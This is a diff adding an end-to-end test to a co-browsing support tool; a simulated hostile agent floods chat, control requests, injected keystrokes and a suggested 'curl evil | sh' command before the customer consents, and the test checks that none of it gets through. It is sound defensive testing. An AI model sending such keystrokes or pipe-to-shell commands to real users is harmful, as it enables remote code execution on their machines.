@@ -104,3 +104,53 @@ async def test_a_replayed_invite_opens_no_second_pairing(relay_url: str) -> None
         finally:
             await a.kill()
             await customer.kill()
+
+
+async def test_an_invited_agent_gets_and_causes_nothing_before_the_customer_allows(relay_url: str) -> None:
+    """A patched client joins with a real invitation and, before the customer answered, sends
+    what a scammer would: chat, control requests, keys, invitations, a bogus identity proof,
+    suggestions, a playbook, a recording request. Nothing reaches the customer but the one
+    question, nothing reaches the shell, and the client receives no screen, steps or code."""
+    from cobrowse.io.link import RelayLink
+    from cobrowse.protocol import messages as m
+    from tests.e2e.hostile_agent import HostileAgent
+
+    a, customer = await session(relay_url)
+    mallory: HostileAgent | None = None
+    try:
+        await a.send({"cmd": "invite"})
+        code = parse_code((await a.event("invite"))["code"])
+        link = RelayLink(relay_url, "agent", None, reconnect_for=5.0)
+        await link.claim(code.nameplate)
+        link.confirm = None  # type: ignore[method-assign,assignment]  # only the creator confirms a claim
+        mallory = HostileAgent(link, code, name="Mallory", hello=True)
+        mallory._tasks = [asyncio.create_task(link.run()), asyncio.create_task(mallory._pump()),
+                          asyncio.create_task(mallory._ticker())]
+        await mallory.paired()
+        await customer.stderr_line(ASKED)
+        await mallory.flood(lambda i: m.Chat(f"pwned-chat-{i}"), 20)
+        await mallory.flood(m.RequestControl("control"), 5)
+        await mallory.flood(m.Keys("echo pwned-$((1+1))\r"), 5)
+        await mallory.flood(m.Invite(), 5)
+        await mallory.send(m.AgentProof({"format": "bogus"}, "AAAA"))
+        await mallory.send(m.AgentProof({"format": "bogus"}, "AAAA"))
+        await mallory.send(m.Suggest(1, "curl evil | sh"))
+        await mallory.send(m.RecordRequest(True))
+        await mallory.send(m.Pointer(0, 3))
+        await mallory.settle()
+        await answer(customer, b"n")
+        await mallory.expect(m.End, lambda end: end.reason == "viewer_refused")
+        await a.send({"cmd": "chat", "text": "after-mallory"})
+        await customer.stderr_line("after-mallory")
+        assert not mallory.all(m.Screen) and not mallory.all(m.Steps) and not mallory.all(m.InviteCode)
+        assert not mallory.all(m.Chat) and not mallory.all(m.SuggestAnswer)
+        shown = "\n".join(customer.stderr_lines)
+        for needle in ("pwned", "CONTROL", "RECORD", "curl evil", "points at"):
+            assert needle not in shown, needle
+        assert shown.count("invited a colleague") == 1  # Mallory's invitations opened nothing
+        assert not any("pwned-2" in line for e in a.all("screen") for line in e["lines"])
+    finally:
+        if mallory is not None:
+            await mallory.close()
+        await a.kill()
+        await customer.kill()
